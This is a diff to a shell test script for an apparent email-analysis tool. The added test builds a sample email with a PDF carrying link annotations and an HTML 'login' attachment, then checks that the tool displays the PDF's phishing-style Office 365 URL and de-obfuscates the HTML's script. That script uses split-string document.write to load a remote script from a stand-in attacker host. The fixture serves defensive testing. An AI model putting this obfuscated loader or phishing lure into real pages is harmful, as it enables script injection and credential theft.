@@ -229,6 +229,37 @@ expect decoded_hex_view "Part 2, hex"
 expect decoded_hex_line "00000000  3c 21 44 4f 43 54 59 50"
 keys q q
 
+# ---- d again: the next decoded view of a part: a PDF's text and its link
+# annotations, an HTML page's script as the analyzer decodes it
+{
+	printf 'From: a@example.net\nTo: b@example.org\nSubject: views\nMIME-Version: 1.0\n'
+	printf 'Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/plain\n\nsee attached\n'
+	printf -- '--B\nContent-Type: application/pdf; name=invoice.pdf\nContent-Transfer-Encoding: base64\n\n'
+	base64 tests/fixtures/pdf/links_and_launch.pdf
+	printf -- '--B\nContent-Type: text/html; name=login.html\nContent-Transfer-Encoding: 8bit\n\n'
+	printf '<html><body><p>Loading</p><script>document.write(%s);</script></body></html>\n' \
+		"'<scr' + 'ipt src=\"https://cdn.evil-example.net/k.js\"></scr' + 'ipt>'"
+	printf -- '--B--\n'
+} > "$TMPD/views.eml"
+start 120 40 "$KENSA" "$TMPD/views.eml"
+expect views_base "[4 Findings ("
+keys 3 g d
+expect views_pdf_text_first "Part 2, PDF text (1/"
+keys d
+expect views_pdf_links "Part 2, PDF links (2/"
+expect views_pdf_link_uri "page 1  link  URI https://login.evil-example.com/o365?id=42"
+expect views_pager_hint "d next view"
+keys q j j d
+expect views_html_page_first "Part 3, HTML as text (1/3)"
+keys d
+expect views_script_layer "Part 3, Script, de-obfuscated (2/3)"
+expect views_script_decoded '<script src="https://cdn.evil-example.net/k.js">'
+keys d
+expect views_hex_last "Part 3, hex (3/3)"
+keys d
+expect views_cycle_back "Part 3, HTML as text (1/3)"
+keys q q
+
 # ---- i: the IOC pane, every indicator with its role, defanged; y / Y copy
 start 120 40 "$KENSA" samples/ceo_fraud_ja.eml
 expect ioc_view_base "[4 Findings ("
